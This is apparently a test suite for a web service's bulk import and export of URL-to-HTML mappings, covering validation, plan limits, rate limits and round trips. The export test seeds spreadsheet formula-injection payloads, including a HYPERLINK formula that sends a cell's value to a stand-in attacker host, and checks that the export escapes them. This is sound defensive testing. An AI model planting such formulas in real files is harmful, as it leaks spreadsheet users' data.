import { createMessageBatch } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { IMPORT_BODY_MAX_BYTES, type ImportReport } from "#contract/bulk";
import type { Mapping } from "#contract/responses";
import type { MappingVersion } from "#contract/versions";
import { deliveryRepairs, urlMappings } from "../db/schema";
import { consumeDeliverySyncs } from "../delivery/repairs";
import type { DeliverySyncMessage } from "../messages/delivery-sync";
import { expectStoreMatchesD1, storedEntry } from "../test/delivery-store";
import { call, createCustomerOnPlan, createVerifiedCustomer, db, testEnv } from "../test/helpers";

async function add(apiKey: string, json: object) {
  const res = await call("/api/mappings", { method: "POST", apiKey, json });
  expect(res.status).toBe(201);
  return (await res.json()) as Mapping;
}

async function importFile(apiKey: string, body: string, type: string, query = "", e = testEnv()) {
  const res = await call(
    `/api/mappings/import${query}`,
    {
      method: "POST",
      apiKey,
      body,
      headers: { "Content-Type": type },
    },
    e,
  );
  return { res, report: (await res.json()) as ImportReport & { message: string } };
}

const importJson = (apiKey: string, rows: unknown, query = "", e = testEnv()) =>
  importFile(apiKey, JSON.stringify(rows), "application/json", query, e);

const importCsv = (apiKey: string, csv: string, query = "", e = testEnv()) =>
  importFile(apiKey, csv, "text/csv", query, e);

async function mappingsOf(userId: string) {
  return db().select().from(urlMappings).where(eq(urlMappings.userId, userId)).orderBy(urlMappings.id);
}

async function exportText(apiKey: string, format: "csv" | "json") {
  const res = await call(`/api/mappings/export?format=${format}`, { apiKey });
  expect(res.status).toBe(200);
  return { res, text: await res.text() };
}

describe("POST /api/mappings/import", () => {
  it("checks a CSV first (dryRun): a report per row, and nothing changes", async () => {
    const { user, apiKey } = await createVerifiedCustomer("c@example.com");
    const existing = await add(apiKey, { url: "https://shop.test/a", htmlContent: "<p>old</p>" });
    const csv = [
      "url,htmlContent,status,position,selector,seoTitle",
      'https://shop.test/a,"<p>new, with a comma</p>",,,,',
      "https://shop.test/b,<p>b</p>,draft,inside,#slot,Bee",
      "ftp://shop.test/c,<p>c</p>,,,,",
    ].join("\r\n");
    const { res, report } = await importCsv(apiKey, csv, "?dryRun=1");
    expect(res.status).toBe(200);
    expect(report).toMatchObject({ dryRun: true, applied: false, total: 3, added: 1, updated: 1, refused: 1 });
    expect(report.rows).toEqual([
      { row: 1, action: "update", url: "https://shop.test/a", id: existing.id },
      { row: 2, action: "add", url: "https://shop.test/b" },
      { row: 3, action: "refuse", url: "ftp://shop.test/c", errors: ["url: URL must start with http:// or https://"] },
    ]);
    expect((await mappingsOf(user.id)).map((m) => m.htmlContent)).toEqual(["<p>old</p>"]);
  });

  it("applies a file all together: adds, updates by URL and by id, keeps what a row leaves out, delivers each", async () => {
    const { user, apiKey } = await createCustomerOnPlan({});
    const a = await add(apiKey, {
      url: "https://shop.test/a",
      htmlContent: "<p>a</p>",
      placement: { position: "inside", selector: "#hero" },
      seo: { title: "A" },
    });
    const b = await add(apiKey, { url: "https://shop.test/b", htmlContent: "<p>b</p>" });
    const { res, report } = await importJson(apiKey, [
      { url: "https://shop.test/a", htmlContent: "<p>a2</p>" },
      { id: b.id, url: "https://shop.test/b-moved", htmlContent: "<p>b2</p>", seo: { description: "Bee" } },
      { url: "https://shop.test/c", htmlContent: "<p>c</p>", placement: { position: "before", selector: "main" } },
      { url: "https://shop.test/d", htmlContent: "<p>d</p>", status: "draft" },
    ]);
    expect(res.status).toBe(200);
    expect(report).toMatchObject({ applied: true, added: 2, updated: 2, refused: 0 });
    const rows = await mappingsOf(user.id);
    const byUrl = Object.fromEntries(rows.map((m) => [m.url, m]));
    expect(byUrl["https://shop.test/a"]).toMatchObject({
      id: a.id,
      htmlContent: "<p>a2</p>",
      placement: { position: "inside", selector: "#hero" },
      seo: { title: "A" },
    });
    expect(byUrl["https://shop.test/b-moved"]).toMatchObject({ id: b.id, seo: { description: "Bee" } });
    expect(byUrl["https://shop.test/d"]!.publishedAt).toBeNull();
    expect(report.rows[2]).toEqual({
      row: 3,
      action: "add",
      url: "https://shop.test/c",
      id: byUrl["https://shop.test/c"]!.id,
    });

    expect(res.headers.get("X-Delivery-Everywhere-By")).not.toBeNull();
    expect(await storedEntry(user.id, "shop.test/b")).toBeNull();
    expect((await storedEntry(user.id, "shop.test/c"))?.html).toBe("<p>c</p>");
    expect(await storedEntry(user.id, "shop.test/d")).toBeNull();
    await expectStoreMatchesD1(user.id, "after an import");

    const versions = await call(`/api/mappings/${a.id}/versions`, { apiKey });
    expect(((await versions.json()) as MappingVersion[]).map((v) => v.htmlContent)).toEqual(["<p>a2</p>", "<p>a</p>"]);
  });

  it("applies nothing when one row is refused (422), and says why per row", async () => {
    const { user, apiKey } = await createVerifiedCustomer("c@example.com");
    const mine = await add(apiKey, { url: "https://shop.test/a", htmlContent: "<p>a</p>" });
    const other = await createVerifiedCustomer("other@example.com");
    const theirs = await add(other.apiKey, { url: "https://other.test/x", htmlContent: "<p>x</p>" });
    const { res, report } = await importJson(apiKey, [
      { url: "https://shop.test/a", htmlContent: "<p>changed</p>" },
      { url: "https://shop.test/new", htmlContent: "<p>new</p>" },
      { url: "https://shop.test/NEW", htmlContent: "<p>again</p>" },
      { id: theirs.id, url: "https://shop.test/steal", htmlContent: "<p>mine now</p>" },
      { id: mine.id, url: "https://shop.test/a", htmlContent: "<p>twice</p>" },
      { url: "https://shop.test/big", htmlContent: "x".repeat(256 * 1024 + 1) },
      { url: "https://shop.test/s", htmlContent: "<p>s</p>", publishAt: "tomorrow" },
      { url: "https://shop.test/u", htmlContent: "<p>u</p>", unpublishAt: "2020-01-01T00:00:00Z" },
      "not a mapping",
    ]);
    expect(res.status).toBe(422);
    expect(report).toMatchObject({ applied: false, refused: 7, message: "7 rows are refused: nothing was imported" });
    const errors = Object.fromEntries(report.rows.filter((r) => r.errors).map((r) => [r.row, r.errors!.join(" | ")]));
    expect(errors).toEqual({
      3: "Row 2 already adds a mapping at this URL",
      4: `No mapping with id ${theirs.id}`,
      5: "Row 1 already changes this mapping",
      6: "htmlContent: HTML content must be at most 256 KB (262,144 bytes)",
      7: expect.stringContaining("Publish at must be an ISO 8601 date and time with a time zone"),
      8: "Unpublish at must be in the future",
      9: expect.stringContaining("expected object"),
    });
    expect((await mappingsOf(user.id)).map((m) => m.htmlContent)).toEqual(["<p>a</p>"]);
    expect((await mappingsOf(other.user.id)).map((m) => m.url)).toEqual(["https://other.test/x"]);
  });

  it("holds a file to the plan: the rows past the events or websites limit are refused with the limit's message", async () => {
    const events = await createCustomerOnPlan({ eventsLimit: 3 });
    await add(events.apiKey, { url: "https://shop.test/1", htmlContent: "<p>1</p>" });
    const overEvents = await importJson(events.apiKey, [
      { url: "https://shop.test/1", htmlContent: "<p>an update spends no event</p>" },
      { url: "https://shop.test/2", htmlContent: "<p>2</p>" },
      { url: "https://shop.test/3", htmlContent: "<p>3</p>" },
      { url: "https://shop.test/4", htmlContent: "<p>4</p>" },
    ]);
    expect(overEvents.res.status).toBe(422);
    expect(overEvents.report.rows.map((r) => r.errors ?? r.action)).toEqual([
      "update",
      "add",
      "add",
      ["Your plan allows 3 content updates per billing period. Upgrade your plan or wait for the next period."],
    ]);

    const sites = await createCustomerOnPlan({ websitesLimit: 2 });
    await add(sites.apiKey, { url: "https://one.test/", htmlContent: "<p>1</p>" });
    const overSites = await importJson(sites.apiKey, [
      { url: "https://two.test/a", htmlContent: "<p>2</p>" },
      { url: "https://two.test/b", htmlContent: "<p>2b</p>" },
      { url: "https://one.test/more", htmlContent: "<p>1b</p>" },
      { url: "https://three.test/", htmlContent: "<p>3</p>" },
    ]);
    expect(overSites.report.rows.map((r) => r.errors ?? r.action)).toEqual([
      "add",
      "add",
      "add",
      ["Your plan allows 2 websites. Upgrade your plan to add three.test."],
    ]);
    expect(await mappingsOf(sites.user.id)).toHaveLength(1);
  });

  it("refuses a file it cannot read as a whole with a 4xx that names the problem", async () => {
    const { apiKey } = await createVerifiedCustomer("c@example.com");
    const cases: [string, string, number, string][] = [
      ["text/plain", "url,htmlContent", 415, "Send the import as text/csv or application/json"],
      ["application/json", "{", 400, "The import is not valid JSON"],
      ["application/json", '{"rows": []}', 400, 'A JSON import is an array of mappings, or {"mappings": [...]}'],
      ["application/json", "[]", 400, "The import has no rows"],
      [
        "text/csv",
        "url,html\r\nhttps://a.test/,x",
        400,
        "Unknown CSV column html: the columns are id, url, htmlContent",
      ],
      ["text/csv", "url\r\nhttps://a.test/", 400, "The CSV needs the column htmlContent in its header"],
    ];
    for (const [type, body, status, message] of cases) {
      const res = await call("/api/mappings/import", {
        method: "POST",
        apiKey,
        body,
        headers: { "Content-Type": type },
      });
      expect(res.status, body).toBe(status);
      expect(((await res.json()) as { error: string }).error, body).toContain(message);
    }
    const tooMany = Array.from({ length: 10_001 }, (_, i) => ({ url: `https://a.test/${i}`, htmlContent: "x" }));
    const many = await importJson(apiKey, tooMany);
    expect(many.res.status).toBe(400);
    expect((many.report as unknown as { error: string }).error).toBe(
      "An import holds at most 10,000 rows; this one has 10,001",
    );
    const huge = await call("/api/mappings/import", {
      method: "POST",
      apiKey,
      body: "x".repeat(IMPORT_BODY_MAX_BYTES + 1),
      headers: { "Content-Type": "text/csv" },
    });
    expect(huge.status).toBe(413);
    const badRow = await importCsv(
      apiKey,
      'url,htmlContent\r\nhttps://a.test/,<p>a</p>,extra\r\nhttps://a.test/b,"<p>b</p>"',
    );
    expect(badRow.report.rows[0]).toMatchObject({
      action: "refuse",
      errors: [expect.stringContaining("Too many fields")],
    });
  });

  const productsCsv = (n: number) =>
    ["url,htmlContent", ...Array.from({ length: n }, (_, i) => `https://shop.test/p/${i},<p>product ${i}</p>`)].join(
      "\n",
    );

  it("takes at most 20 imports per account an hour, then refuses with 429 before reading the file", async () => {
    const { apiKey } = await createVerifiedCustomer("c@example.com");
    const rows = [{ url: "https://shop.test/a", htmlContent: "<p>a</p>" }];
    for (let i = 0; i < 20; i++) expect((await importJson(apiKey, rows, "?dryRun=1")).res.status).toBe(200);
    const refused = await importJson(apiKey, rows);
    expect(refused.res.status).toBe(429);
    expect(refused.report).toEqual({ error: "Too many imports. Please try again in an hour." });
    expect(await db().select().from(urlMappings)).toEqual([]);
  });

  it("imports 10,000 rows in one request, the delivery store's writes past the first hundred queued", async () => {
    const { user, apiKey } = await createCustomerOnPlan({});
    const e = testEnv();
    const { res, report } = await importCsv(apiKey, productsCsv(10_000), "", e);
    expect(res.status).toBe(200);
    expect(report).toMatchObject({ applied: true, added: 10_000, refused: 0 });
    expect(await mappingsOf(user.id)).toHaveLength(10_000);
    expect(res.headers.get("X-Delivery-Pending")).toBe("1");
    expect(e.deliverySyncs).toHaveLength(99);
    const pending = await db().select().from(deliveryRepairs).where(eq(deliveryRepairs.userId, user.id));
    expect(pending).toHaveLength(9_900);
  }, 60_000);

  it("writes the queued ranges when the delivery queue's consumer runs, so that the store matches D1", async () => {
    const { user, apiKey } = await createCustomerOnPlan({});
    const e = testEnv();
    expect((await importCsv(apiKey, productsCsv(350), "", e)).report.added).toBe(350);
    expect(e.deliverySyncs).toHaveLength(3);
    const batch = (body: DeliverySyncMessage, i: number) =>
      createMessageBatch<DeliverySyncMessage>("dynamic-content-delivery", [
        { id: `m${i}`, timestamp: new Date(), attempts: 1, body },
      ]);
    for (const [i, message] of e.deliverySyncs.entries()) await consumeDeliverySyncs(batch(message, i), env);
    expect(await db().select().from(deliveryRepairs).where(eq(deliveryRepairs.userId, user.id))).toHaveLength(0);
    await expectStoreMatchesD1(user.id, "after an import and the delivery queue");
  }, 30_000);
});

describe("GET /api/mappings/export", () => {
  it("downloads every mapping of the customer's own as CSV or JSON, which imports again as it was", async () => {
    const { user, apiKey } = await createCustomerOnPlan({});
    const other = await createVerifiedCustomer("other@example.com");
    await add(other.apiKey, { url: "https://other.test/secret", htmlContent: "<p>theirs</p>" });
    const rows: Record<string, unknown>[] = Array.from({ length: 600 }, (_, i) => ({
      url: `https://shop.test/${i}`,
      htmlContent: `<p class="x">${i}, "quoted"\nline</p>`,
    }));
    rows[1] = {
      ...rows[1]!,
      ...{
        status: "draft",
        publishAt: new Date(Date.now() + 86_400_000).toISOString(),
        placement: { position: "replace", selector: "#slot" },
        seo: { title: '=HYPERLINK("https://evil.test")', jsonLd: { "@type": "Product" }, robots: "noindex" },
      },
    };
    // A formula over several lines, and a cell the customer began with a quote mark themselves.
    rows[2] = { ...rows[2]!, htmlContent: '=HYPERLINK("https://evil.example/?"&B2,"Open")\n<p>x</p>' };
    rows[3] = { ...rows[3]!, htmlContent: "'=1+1 stays as written" };
    expect((await importJson(apiKey, rows)).report.added).toBe(600);

    const csv = await exportText(apiKey, "csv");
    expect(csv.res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(csv.res.headers.get("Content-Disposition")).toMatch(
      /^attachment; filename="mappings-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(csv.text.split("\r\n")[0]).toBe(
      "id,url,htmlContent,match,status,publishAt,unpublishAt,position,selector,seoTitle,seoDescription,seoCanonical,seoRobots,seoJsonLd,audience,priority,createdAt,publishedAt,totalRequests,contentDeliveryCount",
    );
    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.test"")"`);
    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""Open"")\n<p>x</p>"`);
    expect(csv.text).toContain(`''=1+1 stays as written`);
    expect(csv.text).not.toContain("other.test");

    const json = await exportText(apiKey, "json");
    const exported = JSON.parse(json.text) as { url: string; status: string; seo: object }[];
    expect(exported).toHaveLength(600);
    expect(exported.map((m) => m.url)).toEqual(rows.map((r) => r.url));
    expect(exported[1]).toMatchObject({ status: "draft", seo: rows[1]!.seo, placement: rows[1]!.placement });

    const before = await mappingsOf(user.id);
    for (const [format, text] of [
      ["text/csv", csv.text],
      ["application/json", json.text],
    ] as const) {
      const again = await importFile(apiKey, text, format);
      expect(again.report, format).toMatchObject({ applied: true, added: 0, updated: 600, refused: 0 });
    }
    const after = await mappingsOf(user.id);
    expect(after.map(({ changedBy, ...m }) => m)).toEqual(before.map(({ changedBy, ...m }) => m));
    const history = await call(`/api/mappings/${before[1]!.id}/versions`, { apiKey });
    expect(history.headers.get("X-Total-Count")).toBe("1");
  }, 30_000);

  it("answers an empty list for a customer without mappings, and refuses an unknown format", async () => {
    const { apiKey } = await createVerifiedCustomer("c@example.com");
    expect(JSON.parse((await exportText(apiKey, "json")).text)).toEqual([]);
    expect((await exportText(apiKey, "csv")).text.split("\r\n").filter(Boolean)).toHaveLength(1);
    const res = await call("/api/mappings/export?format=xlsx", { apiKey });
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({ error: 'Format must be "csv" or "json"' });
  });
});
